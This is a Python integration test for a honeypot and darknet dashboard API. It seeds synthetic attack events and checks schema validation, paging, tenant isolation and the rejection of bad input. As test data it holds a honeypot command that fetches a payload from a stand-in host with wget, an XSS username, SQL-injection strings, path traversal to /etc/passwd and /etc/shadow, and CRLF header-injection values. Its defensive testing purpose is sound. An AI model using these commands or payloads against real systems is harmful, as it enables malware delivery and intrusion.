#!/usr/bin/env python3
"""The dashboard's REST API (issue 13 items 1 and 2) against the real `kansoku serve` over a seeded
database: every endpoint's answers (200, 400, 401, 404) validated against the OpenAPI 3.1 document
the server serves (which must be src/web/openapi.json) with Debian's python3-jsonschema (draft
2020-12, the dialect of OpenAPI 3.1); paging that returns every event once; filters; tenant
isolation (ISP A never sees ISP B's events or hosts); the local admin session only on loopback with
a loopback Host; injection attempts (SQL, path traversal, CR/LF) and oversized or malformed
parameters answered 400 with a message naming the parameter; /metrics with the new families. An ISP
given only by an AS number sees the events inside the prefixes that AS announces (and nothing else);
a sample's detail carries the triage and sandbox documents of the sample store, which the server
only reads (a crashed writer's temporary file is left where it is).

Usage: dashboard_api.py KANSOKU SEED_TOOL
"""

import json
import subprocess
import sys
import urllib.error
import urllib.parse
import urllib.request
import http.client

import center_lab
import integ_common as ic

try:
    import jsonschema
except ImportError:  # scripts/setup installs python3-jsonschema
    ic.skip("python3-jsonschema is not installed (scripts/setup installs it)")

ADMIN = "integ-admin-key"
HOSTILE = "<img src=x onerror=alert(1)>"
SHA_A = "a" * 64
SHA_B = "b" * 64


def events_seed():
    """Events of a small day: scans from ISP A's space (198.51.100.0/25), ISP B's (.128/25) and
    elsewhere, port statistics, a telnet session with a hostile username, a download, two look-alike
    samples, a sandbox report, an attack on B's host and an outbreak alert."""
    ev = []
    t = lambda m, s=0: f"2026-12-07T10:{m:02d}:{s:02d}Z"
    for i, (src, tool, port, packets) in enumerate([("198.51.100.7", "mirai", 23, 300), ("198.51.100.8", "mirai", 23, 200),
                                                   ("198.51.100.9", "zmap", 80, 50), ("198.51.100.200", "masscan", 443, 900),
                                                   ("198.51.100.201", "nmap", 22, 20), ("1.1.1.1", "unknown", 23, 5)]):
        ev.append({"type": "darknet.scan", "ts": t(i + 1), "sensor": "tokyo-1", "src": src, "proto": "tcp",
                   "packets": packets, "dst_count": 10, "port_count": 1, "dst_ports": [{"port": port, "packets": packets}],
                   "tool": tool, "scan_kind": "horizontal", "spoofed": False, "first_seen": t(i), "last_seen": t(i + 1)})
    for m in range(0, 10):
        for port, packets, sources in ((23, 100 + m, 5), (80, 10, 2)):
            ev.append({"type": "darknet.port_stats", "ts": t(m), "sensor": "tokyo-1", "proto": "tcp", "port": port,
                       "minute": t(m), "packets": packets, "sources": sources})
    ctx = {"session": "00aa11bb22cc33dd", "src": "198.51.100.7", "src_port": 40000, "dst_port": 2323, "protocol": "telnet"}
    ev.append({"type": "honeypot.connect", "ts": t(20), **ctx})
    ev.append({"type": "honeypot.login", "ts": t(20, 5), **ctx, "username": HOSTILE, "password": "admin", "success": False, "attempt": 1})
    ev.append({"type": "honeypot.login", "ts": t(20, 9), **ctx, "username": "root", "password": "vizxv", "success": True, "attempt": 2})
    ev.append({"type": "honeypot.command", "ts": t(21), **ctx, "input": "cd /tmp; wget http://192.0.2.9/bins.sh", "status": 0})
    ev.append({"type": "honeypot.command", "ts": t(21, 30), **ctx, "input": "' OR 1=1; DROP TABLE events; --", "status": 127})
    ev.append({"type": "honeypot.download", "ts": t(22), **ctx, "url": "http://192.0.2.9/bins.sh", "sha256": SHA_A, "size": 1000})
    ev.append({"type": "honeypot.session", "ts": t(23), **ctx, "start": t(20), "end": t(23), "duration_s": 180.0,
               "bytes_in": 100, "bytes_out": 200, "close_reason": "peer_closed"})
    ctx_b = {**ctx, "session": "99ee88ff77aa66bb", "src": "198.51.100.200"}
    ev.append({"type": "honeypot.login", "ts": t(24), **ctx_b, "username": "admin", "password": "admin", "success": False, "attempt": 1})
    ssdeep = "24:XYZabcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRS:XYZabcdefghijklmnop"
    ev.append({"type": "sample", "ts": t(22, 1), "sensor": "tokyo-1", "sha256": SHA_A, "md5": "0" * 32, "sha1": "0" * 40,
               "size": 1000, "file_type": "ELF 32-bit LSB executable, ARM", "arch": "ARM", "ssdeep": ssdeep,
               "first_seen": t(22), "last_seen": t(22), "count": 1, "sources": [{"kind": "download", "sensor": "tokyo-1", "first_seen": t(22)}]})
    ev.append({"type": "sample", "ts": t(25), "sensor": "tokyo-1", "sha256": SHA_B, "md5": "1" * 32, "sha1": "1" * 40,
               "size": 900, "file_type": "ELF", "arch": "ARM", "ssdeep": ssdeep.replace("XYZ", "XYW"),
               "first_seen": t(25), "last_seen": t(25), "count": 1,
               "sources": [{"kind": "sandbox_drop", "parent": SHA_A, "sensor": "tokyo-1", "first_seen": t(25)}]})
    ev.append({"type": "sandbox.report", "ts": t(26), "sensor": "tokyo-1", "sha256": SHA_A, "arch": "ARM",
               "verdict": "malicious", "score": 80, "signatures": [{"id": "persistence", "name": "x", "severity": "high", "mitre": ["T1053"]}],
               "network": {}, "processes": [], "files": []})
    ev.append({"type": "ddos.attack", "ts": t(30), "sensor": "tokyo-1", "victim": "198.51.100.130", "vector": "syn_flood",
               "evidence": "backscatter", "start": t(28), "end": t(30), "packets": 500, "ports": [{"port": 80, "packets": 500}]})
    ev.append({"type": "alert", "ts": t(31), "sensor": "tokyo-1", "kind": "darknet.outbreak", "severity": "high",
               "subject": "tcp/23", "details": {"proto": "tcp", "port": 23}})
    return ev


class Api:
    def __init__(self, port, doc):
        self.port = port
        self.doc = doc
        self.covered = set()
        resolver = jsonschema.RefResolver(base_uri="", referrer=doc)
        self.validator_for = lambda schema: jsonschema.Draft202012Validator(schema, resolver=resolver)

    def get(self, target, key=ADMIN, host=None, raw=False):
        conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=10)
        headers = {}
        if key:
            headers["Authorization"] = f"Bearer {key}"
        if host:
            headers["Host"] = host
        conn.putrequest("GET", target, skip_host=bool(host))
        for k, v in headers.items():
            conn.putheader(k, v)
        conn.endheaders()
        r = conn.getresponse()
        body = r.read()
        conn.close()
        return r.status, dict((k.lower(), v) for k, v in r.getheaders()), body

    def schema_of(self, template, status):
        op = self.doc["paths"][template]["get"]
        response = op["responses"].get(str(status))
        if response is None:
            return None
        if "$ref" in response:
            response = self.doc["components"]["responses"][response["$ref"].split("/")[-1]]
        return response["content"]["application/json"]["schema"]

    def check(self, checks, template, target, status, key=ADMIN, what=""):
        """GETs target, checks the status, validates the body against the document; returns the JSON."""
        code, headers, body = self.get(target, key)
        schema = self.schema_of(template, code)
        try:
            data = json.loads(body)
        except ValueError:
            data = None
        errors = []
        if schema is None:
            errors.append(f"status {code} is not in the document for {template}")
        elif data is None:
            errors.append("body is not JSON")
        else:
            errors = [f"{'/'.join(map(str, e.absolute_path))}: {e.message}" for e in self.validator_for(schema).iter_errors(data)]
        ok = code == status and not errors and headers.get("content-type", "").startswith("application/json")
        checks.check(ok, f"GET {target[:90]} -> {status} matches the document {what}",
                     f"status {code}\n" + "\n".join(errors[:5]) + "\n" + body[:400].decode("utf-8", "replace"))
        if ok:
            self.covered.add((template, status))
        return data


def main() -> int:
    kansoku = ic.kansoku_binary()
    seed_tool = sys.argv[2]
    checks = ic.Checks()
    work = ic.make_temp_dir("ks-dash-")
    serve = None
    try:
        serve = run_checks(kansoku, seed_tool, work, checks)
    finally:
        if serve is not None:
            ic.stop_process(serve)
        ic.remove_temp_dir(work)
    return checks.exit_code()


def run_checks(kansoku, seed_tool, work, checks):
    port = ic.free_port()
    samples = work / "samples"
    config = center_lab.write_config(work, "integ-dash", port, f'admin_key = "{ADMIN}"\nlocal_admin = true\n'
                                     f'[honeypot]\nsamples_dir = "{samples}"\n')
    leftover = write_sample_documents(samples)
    keys = {}
    for name, prefix in (("isp-a", "198.51.100.0/25"), ("isp-b", "198.51.100.128/25")):
        r = ic.run([kansoku, "isp", "add", name, "--prefix", prefix, "--abuse", f"abuse@{name}.example", "--config", str(config)])
        keys[name] = r.stdout.strip()
        checks.check(r.returncode == 0, f"isp add {name}", r.stderr)
    hosts = [{"ip": ip, "family": fam, "first_seen": "2026-12-07T10:00:00Z", "last_seen": "2026-12-07T10:30:00Z",
              "evidence": ["darknet.scan"], "asn": asn, "country": cc}
             for ip, fam, asn, cc in (("198.51.100.7", "mirai", 64500, "JP"), ("198.51.100.8", "mirai", 64500, "JP"),
                                      ("198.51.100.200", "gafgyt", 64501, "US"))]
    # An ISP given by its AS only: the AS that announces 1.1.1.1 (a source of the seeded scans) in the data.
    looked = subprocess.run([kansoku, "intel", "lookup", "--json", "1.1.1.1", "--config", str(config)],
                            capture_output=True, text=True)
    asn_c = json.loads(looked.stdout)["asn"] if looked.returncode == 0 else 0
    checks.check(asn_c > 0, "the AS data knows 1.1.1.1's AS", looked.stdout + looked.stderr)
    r = ic.run([kansoku, "isp", "add", "isp-c", "--asn", str(asn_c), "--abuse", "abuse@isp-c.example", "--config", str(config)])
    keys["isp-c"] = r.stdout.strip()
    checks.check(r.returncode == 0, f"isp add isp-c --asn {asn_c}", r.stderr)
    r = center_lab.seed(seed_tool, work, {"hosts": hosts, "events": events_seed()})
    checks.check(r.returncode == 0, "seeded hosts and events through the store", r.stderr)
    serve, up = center_lab.start_serve(kansoku, config, work, port)
    if not checks.check(up, "kansoku serve is up", (work / "serve.log").read_text()):
        return serve

    code, headers, body = Api(port, {}).get("/api/v1/openapi.json", key=None)
    served = json.loads(body)
    in_repo = json.loads((ic.REPO_ROOT / "src" / "web" / "openapi.json").read_text())
    checks.check(code == 200 and served == in_repo, "GET /api/v1/openapi.json (no key) is src/web/openapi.json")
    check_document(served, checks)
    api = Api(port, served)
    rng = "from=2026-12-07T09:00:00Z&to=2026-12-07T12:00:00Z"

    # Every endpoint as the admin.
    who = api.check(checks, "/api/v1/whoami", "/api/v1/whoami", 200)
    checks.check(who == {"caller": "admin", "tenant": None, "local": False}, "whoami: the admin key", json.dumps(who))
    ov = api.check(checks, "/api/v1/overview", f"/api/v1/overview?{rng}", 200)
    if ov:
        checks.check(ov["scans"] == 6 and ov["sources"] == 6 and ov["logins"] == 3 and ov["commands"] == 2
                     and ov["attacks"] == 1 and ov["alerts"] == 1 and ov["samples"] == 2 and ov["infected_hosts"] == 3
                     and ov["probes"] == sum(100 + m + 10 for m in range(10)) and ov["events"]["darknet.port_stats"] == 20,
                     "overview counts what was stored", json.dumps(ov))
    s = api.check(checks, "/api/v1/series/{metric}", f"/api/v1/series/probes?{rng}&step=5m&port=23&proto=tcp", 200)
    if s:
        values = [p["value"] for p in s["points"]]
        checks.check(len(values) == 36 and sum(values) == sum(100 + m for m in range(10)) and values[12] == sum(100 + m for m in range(5)),
                     "probes series for tcp/23: 36 five-minute buckets, the probes where they happened", json.dumps(values))
    s = api.check(checks, "/api/v1/series/{metric}", f"/api/v1/series/logins?{rng}&step=1h", 200)
    if s:
        checks.check([p["value"] for p in s["points"]] == [0, 3, 0], "logins series per hour", json.dumps(s["points"]))
    for metric in ("sources", "scans", "attacks", "sessions", "commands", "samples", "alerts"):
        api.check(checks, "/api/v1/series/{metric}", f"/api/v1/series/{metric}?{rng}&step=15m", 200)
    tops = {}
    for kind in ("sources", "ports", "asns", "countries", "tools", "families", "credentials", "commands"):
        tops[kind] = api.check(checks, "/api/v1/top/{kind}", f"/api/v1/top/{kind}?{rng}&limit=5", 200)
    if all(tops.values()):
        checks.check([i["key"] for i in tops["sources"]["items"]][:2] == ["198.51.100.200", "198.51.100.7"],
                     "top sources by probes", json.dumps(tops["sources"]))
        checks.check(tops["ports"]["items"][0]["key"] == "tcp/23" and tops["ports"]["items"][0]["port"] == 23,
                     "top ports", json.dumps(tops["ports"]))
        checks.check(tops["tools"]["items"][0] == {"key": "mirai", "count": 2, "packets": 500}, "top tools",
                     json.dumps(tops["tools"]))
        checks.check(tops["asns"]["items"][0]["asn"] == 64500 and tops["asns"]["items"][0]["count"] == 2, "top ASNs",
                     json.dumps(tops["asns"]))
        checks.check(tops["countries"]["items"][0] == {"key": "JP", "count": 2}, "top countries", json.dumps(tops["countries"]))
        checks.check(tops["families"]["items"][0] == {"key": "mirai", "count": 2}, "top families", json.dumps(tops["families"]))
        creds = {i["username"]: i for i in tops["credentials"]["items"]}
        checks.check(HOSTILE in creds and creds["root"]["successes"] == 1, "top credentials keep the hostile username as text",
                     json.dumps(tops["credentials"]))
        checks.check("' OR 1=1; DROP TABLE events; --" in [i["key"] for i in tops["commands"]["items"]],
                     "top commands hold the attacker's line as data", json.dumps(tops["commands"]))

    # The map's sources carry where they are announced and registered: the same as `kansoku intel lookup` says.
    top10 = api.check(checks, "/api/v1/top/{kind}", f"/api/v1/top/sources?{rng}&limit=10", 200)
    looked = subprocess.run([kansoku, "intel", "lookup", "--json", "1.1.1.1", "--config", str(config)],
                            capture_output=True, text=True)
    if checks.check(looked.returncode == 0, "intel lookup 1.1.1.1", looked.stderr) and top10:
        expected = json.loads(looked.stdout)
        item = next((i for i in top10["items"] if i["key"] == "1.1.1.1"), {})
        checks.check({k: item.get(k, "?") for k in ("asn", "as_name", "country")}
                     == {k: expected[k] for k in ("asn", "as_name", "country")},
                     "top sources: AS and country of each source, as the enrichment data says",
                     f"{json.dumps(item)} vs {looked.stdout.strip()}")
        checks.check(all("country" in i and "asn" in i for i in top10["items"]), "top sources: every item has asn and country")
        checks.check(top10["error_bound"] == 0, "a day of few sources: the list is exact", json.dumps(top10)[:300])

    # Search and paging.
    everything = api.check(checks, "/api/v1/events", f"/api/v1/events?{rng}&limit=1000", 200)
    total = len(everything["events"]) if everything else 0
    checks.check(total == len(events_seed()), f"search returns every stored event ({total})")
    seen, cursor, pages = [], None, 0
    while pages < 100:
        target = f"/api/v1/events?{rng}&limit=7" + (f"&cursor={urllib.parse.quote(cursor)}" if cursor else "")
        page = api.check(checks, "/api/v1/events", target, 200, what="(a page)") if pages < 2 else api.get(target)
        if pages >= 2:
            page = json.loads(page[2])
        seen += [e["id"] for e in page["events"]]
        cursor, pages = page["next"], pages + 1
        if cursor is None:
            break
    checks.check(len(seen) == total and len(set(seen)) == total, f"paging by 7 returns each event once ({pages} pages)")
    by_ip = api.check(checks, "/api/v1/events", "/api/v1/events?ip=198.51.100.7&limit=100", 200)
    checks.check(by_ip and all(e.get("src") == "198.51.100.7" for e in by_ip["events"]) and len(by_ip["events"]) == 8,
                 "search by ip", json.dumps(by_ip)[:300])
    by_prefix = api.check(checks, "/api/v1/events", f"/api/v1/events?prefix=198.51.100.128/25&{rng}", 200)
    checks.check(by_prefix and sorted({e.get("src") or e.get("victim") for e in by_prefix["events"]}) ==
                 ["198.51.100.130", "198.51.100.200", "198.51.100.201"], "search by prefix and time range")
    by_port = api.check(checks, "/api/v1/events", "/api/v1/events?port=23&type=darknet.scan", 200)
    checks.check(by_port and len(by_port["events"]) == 3, "search by port and type")
    by_sha = api.check(checks, "/api/v1/events", f"/api/v1/events?sha256={SHA_A.upper()}", 200)
    checks.check(by_sha and sorted(e["type"] for e in by_sha["events"]) == ["honeypot.download", "sample", "sandbox.report"],
                 "search by SHA-256 (any case)")
    api.check(checks, "/api/v1/events", "/api/v1/events?family=mirai&session=00aa11bb22cc33dd&sensor=tokyo-1", 200)

    # Details.
    ids = {e["type"]: e["id"] for e in everything["events"]} if everything else {}
    scan_b = next((e["id"] for e in everything["events"] if e.get("src") == "198.51.100.200"), 0) if everything else 0
    scan_a = next((e["id"] for e in everything["events"] if e.get("src") == "198.51.100.7" and e["type"] == "darknet.scan"), 0) if everything else 0
    d = api.check(checks, "/api/v1/scans/{id}", f"/api/v1/scans/{scan_a}", 200)
    checks.check(d and d["host"] and d["host"]["ip"] == "198.51.100.7", "scan detail with its infected host")
    api.check(checks, "/api/v1/attacks/{id}", f"/api/v1/attacks/{ids.get('ddos.attack', 0)}", 200)
    api.check(checks, "/api/v1/alerts/{id}", f"/api/v1/alerts/{ids.get('alert', 0)}", 200)
    api.check(checks, "/api/v1/scans/{id}", f"/api/v1/scans/{ids.get('alert', 0)}", 404, what="(an alert's id is no scan)")
    ses = api.check(checks, "/api/v1/sessions/{session}", "/api/v1/sessions/00aa11bb22cc33dd", 200)
    if ses:
        checks.check([l["kind"] for l in ses["transcript"]] == ["connect", "login", "login", "command", "command", "download", "session"]
                     and ses["transcript"][1]["text"] == f"{HOSTILE} / admin" and ses["closed"],
                     "session transcript in order, the hostile username as given", json.dumps(ses["transcript"]))
    smp = api.check(checks, "/api/v1/samples/{sha256}", f"/api/v1/samples/{SHA_A}", 200)
    if smp:
        checks.check(smp["sandbox"]["verdict"] == "malicious" and len(smp["downloads"]) == 1 and smp["drops"] == [SHA_B]
                     and [l["sha256"] for l in smp["lookalikes"]] == [SHA_B], "sample: report, download, drop, look-alike",
                     json.dumps(smp)[:600])
        triage = smp["triage"] or {}
        checks.check(triage.get("sha256") == SHA_A and triage.get("kind") == "elf"
                     and [y["rule"] for y in triage.get("yara", [])] == ["Mirai_Strings"]
                     and HOSTILE in triage.get("strings", {}).get("first", []),
                     "sample: the store's triage document (type, hashes, strings, YARA)", json.dumps(smp["triage"])[:400])
        checks.check((smp["sandbox_report"] or {}).get("processes") == [{"pid": 1, "comm": "bins.sh"}],
                     "sample: the store's sandbox document", json.dumps(smp["sandbox_report"])[:300])
        checks.check(leftover.exists(), "the server only reads the sample store (a writer's temporary file is still there)")
    smp_b = api.check(checks, "/api/v1/samples/{sha256}", f"/api/v1/samples/{SHA_B}", 200)
    checks.check(smp_b and smp_b["triage"] is None and smp_b["sandbox_report"] is None,
                 "sample without documents: triage and sandbox_report are null")
    api.check(checks, "/api/v1/samples/{sha256}", f"/api/v1/samples/{'c' * 64}", 404)
    hp = api.check(checks, "/api/v1/hosts", "/api/v1/hosts?limit=2", 200)
    if hp:
        rest = api.check(checks, "/api/v1/hosts", f"/api/v1/hosts?limit=2&cursor={hp['next']}", 200)
        checks.check(hp["count"] == 2 and rest and rest["count"] == 1 and rest["next"] is None, "hosts paging")
    host_b = api.check(checks, "/api/v1/hosts/{ip}", "/api/v1/hosts/198.51.100.200", 200)
    checks.check(host_b and host_b["isp"] == "isp-b", "a host names the ISP whose space holds it", json.dumps(host_b)[:300])
    api.check(checks, "/api/v1/hosts/{ip}", "/api/v1/hosts/192.0.2.1", 404)
    sensors = api.check(checks, "/api/v1/sensors", "/api/v1/sensors", 200)
    checks.check(sensors is not None, "the loss report answers on a center without a transport", json.dumps(sensors)[:200])
    every_host = api.check(checks, "/api/v1/hosts", "/api/v1/hosts", 200)
    checks.check(every_host and {h["ip"]: h["isp"] for h in every_host["hosts"]}
                 == {"198.51.100.7": "isp-a", "198.51.100.8": "isp-a", "198.51.100.200": "isp-b"},
                 "hosts name their ISP", json.dumps(every_host)[:400])

    # Tenants: ISP A sees its own space only.
    a = keys["isp-a"]
    who = api.check(checks, "/api/v1/whoami", "/api/v1/whoami", 200, key=a)
    checks.check(who and who["caller"] == "tenant" and who["tenant"] == "isp-a", "whoami: a tenant")
    mine = api.check(checks, "/api/v1/events", f"/api/v1/events?{rng}&limit=1000", 200, key=a, what="(tenant A)")
    srcs = {e.get("src") or e.get("victim") for e in mine["events"]} if mine else {"?"}
    checks.check(srcs == {"198.51.100.7", "198.51.100.8", "198.51.100.9"}, "tenant A's search holds only its space", str(srcs))
    theirs = api.check(checks, "/api/v1/events", "/api/v1/events?prefix=198.51.100.128/25", 200, key=a)
    checks.check(theirs and theirs["events"] == [], "tenant A searching B's prefix finds nothing")
    api.check(checks, "/api/v1/scans/{id}", f"/api/v1/scans/{scan_b}", 404, key=a, what="(B's scan, for A)")
    api.check(checks, "/api/v1/hosts/{ip}", "/api/v1/hosts/198.51.100.200", 404, key=a, what="(B's host, for A)")
    api.check(checks, "/api/v1/sessions/{session}", "/api/v1/sessions/99ee88ff77aa66bb", 404, key=a)
    api.check(checks, "/api/v1/samples/{sha256}", f"/api/v1/samples/{SHA_A}", 404, key=a, what="(samples are the admin's)")
    ov_a = api.check(checks, "/api/v1/overview", f"/api/v1/overview?{rng}", 200, key=a)
    checks.check(ov_a and ov_a["scans"] == 3 and ov_a["sources"] == 3 and ov_a["infected_hosts"] == 2 and ov_a["probes"] == 0
                 and ov_a["attacks"] == 0, "tenant A's overview counts only its own", json.dumps(ov_a))
    top_a = api.check(checks, "/api/v1/top/{kind}", f"/api/v1/top/sources?{rng}", 200, key=a)
    checks.check(top_a and {i["key"] for i in top_a["items"]} == {"198.51.100.7", "198.51.100.8", "198.51.100.9"},
                 "tenant A's top sources", json.dumps(top_a))
    cred_b = api.check(checks, "/api/v1/top/{kind}", f"/api/v1/top/credentials?{rng}", 200, key=keys["isp-b"])
    checks.check(cred_b and [i["key"] for i in cred_b["items"]] == ["admin:admin"], "tenant B's top credentials",
                 json.dumps(cred_b))
    hosts_a = api.check(checks, "/api/v1/hosts", "/api/v1/hosts", 200, key=a)
    checks.check(hosts_a and sorted(h["ip"] for h in hosts_a["hosts"]) == ["198.51.100.7", "198.51.100.8"], "tenant A's hosts")

    # ISP C, given only by its AS: the events inside what the AS announces (1.1.1.1's scan), nothing of A or B.
    c = keys["isp-c"]
    mine = api.check(checks, "/api/v1/events", f"/api/v1/events?{rng}&limit=1000", 200, key=c, what="(AS-only tenant C)")
    checks.check(mine and [e.get("src") for e in mine["events"]] == ["1.1.1.1"], "tenant C (AS only) sees its AS's events",
                 json.dumps(mine)[:300])
    ov_c = api.check(checks, "/api/v1/overview", f"/api/v1/overview?{rng}", 200, key=c)
    checks.check(ov_c and ov_c["scans"] == 1 and ov_c["sources"] == 1 and ov_c["logins"] == 0 and ov_c["attacks"] == 0,
                 "tenant C's overview counts its AS's events only", json.dumps(ov_c))
    top_c = api.check(checks, "/api/v1/top/{kind}", f"/api/v1/top/sources?{rng}", 200, key=c)
    checks.check(top_c and [i["key"] for i in top_c["items"]] == ["1.1.1.1"], "tenant C's top sources", json.dumps(top_c))
    s_c = api.check(checks, "/api/v1/series/{metric}", f"/api/v1/series/scans?{rng}&step=1h", 200, key=c)
    checks.check(s_c and [p["value"] for p in s_c["points"]] == [0, 1, 0], "tenant C's scan series", json.dumps(s_c))
    scan_c = next((e["id"] for e in everything["events"] if e.get("src") == "1.1.1.1"), 0) if everything else 0
    api.check(checks, "/api/v1/scans/{id}", f"/api/v1/scans/{scan_c}", 200, key=c, what="(its AS's scan, for C)")
    api.check(checks, "/api/v1/scans/{id}", f"/api/v1/scans/{scan_a}", 404, key=c, what="(A's scan, for C)")
    theirs = api.check(checks, "/api/v1/events", "/api/v1/events?prefix=198.51.100.0/24", 200, key=c)
    checks.check(theirs and theirs["events"] == [], "tenant C searching A's and B's prefixes finds nothing")
    mine_a = api.check(checks, "/api/v1/events", f"/api/v1/events?{rng}&limit=1000", 200, key=a)
    checks.check(mine_a and "1.1.1.1" not in {e.get("src") for e in mine_a["events"]}, "tenant A does not see C's events")

    # Keys and the local session.
    api.check(checks, "/api/v1/overview", "/api/v1/overview", 401, key="ksk_" + "x" * 43, what="(unknown key)")
    code, headers, body = api.get("/api/v1/whoami", key=None)
    who = json.loads(body) if code == 200 else {}
    checks.check(code == 200 and who == {"caller": "admin", "tenant": None, "local": True},
                 "no key on loopback with local_admin: the local admin session", body.decode()[:200])
    code, _, body = api.get("/api/v1/whoami", key=None, host="dashboard.example:8470")
    checks.check(code == 401, "no key with a foreign Host (DNS rebinding): 401", body.decode()[:200])
    code, _, body = api.get("/api/v1/isp/hosts", key=None)
    checks.check(code == 401, "the local session opens the dashboard's routes only: the ISP API still needs a key",
                 body.decode()[:200])

    # Bad input: every parameter, answered 400 with a message naming it; never 200, never 500.
    bad = [
        ("/api/v1/overview", "/api/v1/overview?from=1%27%20OR%201%3D1--", "from"),
        ("/api/v1/overview", "/api/v1/overview?to=..%2F..%2Fetc%2Fpasswd", "to"),
        ("/api/v1/overview", "/api/v1/overview?from=24h&to=48h", "before"),
        ("/api/v1/overview", "/api/v1/overview?from=1990-01-01&to=2026-01-01", "400 days"),
        ("/api/v1/overview", "/api/v1/overview?evil=1", "evil"),
        ("/api/v1/overview", "/api/v1/overview?from=1h&from=2h", "twice"),
        ("/api/v1/overview", "/api/v1/overview?from=%zz", "percent"),
        ("/api/v1/series/{metric}", f"/api/v1/series/probes?{rng}&step=7s", "step"),
        ("/api/v1/series/{metric}", f"/api/v1/series/probes?{rng}&step=1m%0d%0aSet-Cookie:%20x=1", "step"),
        ("/api/v1/series/{metric}", "/api/v1/series/probes?from=300d&step=1m", "points"),
        ("/api/v1/series/{metric}", f"/api/v1/series/probes?{rng}&port=70000", "port"),
        ("/api/v1/series/{metric}", f"/api/v1/series/probes?{rng}&port=23&proto=sctp", "proto"),
        ("/api/v1/series/{metric}", f"/api/v1/series/logins?{rng}&port=23", "port"),
        ("/api/v1/top/{kind}", f"/api/v1/top/sources?limit=0", "limit"),
        ("/api/v1/top/{kind}", f"/api/v1/top/sources?limit=99999999999999999999999", "limit"),
        ("/api/v1/top/{kind}", f"/api/v1/top/sources?limit=1;DROP%20TABLE%20events", "limit"),
        ("/api/v1/events", "/api/v1/events?ip=1.2.3.4%27%20OR%20%271%27=%271", "ip"),
        ("/api/v1/events", "/api/v1/events?prefix=198.51.100.1/24", "prefix"),
        ("/api/v1/events", "/api/v1/events?prefix=..%2F..%2F..%2Fetc%2Fshadow", "prefix"),
        ("/api/v1/events", "/api/v1/events?ip=198.51.100.7&prefix=198.51.100.0/24", "not both"),
        ("/api/v1/events", "/api/v1/events?type=darknet.scan%27%3B%20DELETE%20FROM%20events%3B--", "type"),
        ("/api/v1/events", "/api/v1/events?type=x%0d%0aX-Injected:%201", "type"),
        ("/api/v1/events", "/api/v1/events?family=" + "m" * 300, "too long"),
        ("/api/v1/events", "/api/v1/events?sha256=" + "z" * 64, "sha256"),
        ("/api/v1/events", "/api/v1/events?session=%00", "session"),
        ("/api/v1/events", "/api/v1/events?sensor=a%20b", "sensor"),
        ("/api/v1/events", "/api/v1/events?cursor=abc", "cursor"),
        ("/api/v1/events", "/api/v1/events?cursor=1.-5", "cursor"),
        ("/api/v1/events", "/api/v1/events?port=-1", "port"),
        ("/api/v1/events", "/api/v1/events?limit=1001", "limit"),
        ("/api/v1/scans/{id}", "/api/v1/scans/1%20OR%201=1", "scan id"),
        ("/api/v1/attacks/{id}", "/api/v1/attacks/-1", "attack id"),
        ("/api/v1/alerts/{id}", "/api/v1/alerts/99999999999999999999999", "alert id"),
        ("/api/v1/sessions/{session}", "/api/v1/sessions/..%2F..%2Fetc%2Fpasswd", "session"),
        ("/api/v1/samples/{sha256}", "/api/v1/samples/..%2F..%2Fetc%2Fpasswd", "sha256"),
        ("/api/v1/hosts", "/api/v1/hosts?cursor=%27%3B--", "cursor"),
        ("/api/v1/hosts", "/api/v1/hosts?family=%3Cscript%3E", "family"),
        ("/api/v1/hosts/{ip}", "/api/v1/hosts/999.1.1.1", "ip"),
        ("/api/v1/whoami", "/api/v1/whoami?x=1", "x"),
    ]
    for template, target, needle in bad:
        data = api.check(checks, template, target, 400, what="(bad input)")
        message = data["error"]["message"] if data and "error" in data else ""
        checks.check(needle in message and "\r" not in message and "\n" not in message,
                     f"400 message names '{needle}'", message)
    code, headers, _ = api.get("/api/v1/events?type=x%0d%0aX-Injected:%201")
    checks.check("x-injected" not in headers, "no header injected through a parameter")
    code, _, _ = api.get("/api/v1/samples/../../etc/passwd")
    checks.check(code in (400, 404), f"a traversal path is no resource ({code})")

    # The stream: open with key=, 401 without; metrics show it.
    code, _, body = api.get("/api/v1/stream", key=None, host="dashboard.example")
    checks.check(code == 401, "stream without a key (foreign Host): 401")
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
    conn.request("GET", f"/api/v1/stream?key={ADMIN}&types=darknet.*,alert")
    r = conn.getresponse()
    checks.check(r.status == 200 and r.getheader("Content-Type", "").startswith("text/event-stream")
                 and r.getheader("Content-Length") is None, "stream answers text/event-stream with no length")
    code, _, metrics = api.get("/metrics", key=None)
    text = metrics.decode()
    conn.close()
    for family in ("kansoku_web_stream_clients 1", "kansoku_web_stream_dropped_total", "kansoku_events_total",
                   "kansoku_events_queued ", "kansoku_capture_dropped_total{reason=\"kernel\"}",
                   "kansoku_honeypot_session_ends_total", "kansoku_http_responses_total{code=\"4xx\"}"):
        checks.check(family in text, f"/metrics has {family}")

    # Every GET endpoint of the document was exercised with a 200.
    missing = [p for p in served["paths"] if (p, 200) not in api.covered
               and p not in ("/api/v1/stream", "/api/v1/openapi.json", "/metrics", "/api/v1/status")]
    checks.check(not missing, "every endpoint's 200 was validated", str(missing))
    api.check(checks, "/api/v1/status", "/api/v1/status", 200, key=None)
    return serve


def write_sample_documents(samples):
    """The sample store's documents of SHA_A as the sample pipeline writes them (triage and sandbox), and a
    temporary file a crashed writer left (SampleStore::open would remove it; the server must not). Returns it."""
    shard = samples / SHA_A[:2]
    shard.mkdir(parents=True)
    samples.chmod(0o750)
    triage = {"name": "bins.sh", "size": 1000, "md5": "0" * 32, "sha1": "0" * 40, "sha256": SHA_A, "ssdeep": "3:a:b",
              "tlsh": "", "magic": "ELF 32-bit LSB executable, ARM", "mime": "application/x-executable", "kind": "elf",
              "arch": "ARM", "elf": None, "packers": [], "strings": {"count": 2, "dropped": 0, "first": ["/bin/busybox", HOSTILE]},
              "iocs": {"urls": ["http://192.0.2.9/bins.sh"], "ipv4": [], "domains": [], "emails": [], "credentials": [],
                       "xor22_credentials": [], "credential_list": False, "dropped": 0},
              "yara": [{"rule": "Mirai_Strings", "namespace": "default", "tags": ["mirai"], "description": "", "reference": ""}],
              "yara_timed_out": False, "notes": []}
    (shard / f"{SHA_A}.triage.json").write_text(json.dumps(triage))
    (shard / f"{SHA_A}.sandbox.json").write_text(json.dumps({"sha256": SHA_A, "verdict": "malicious",
                                                             "processes": [{"pid": 1, "comm": "bins.sh"}]}))
    leftover = shard / ".tmp-crashed-XXXXXX"
    leftover.write_text("")
    return leftover


def check_document(doc, checks):
    """The document is OpenAPI 3.1 with valid 2020-12 schemas and $refs that resolve."""
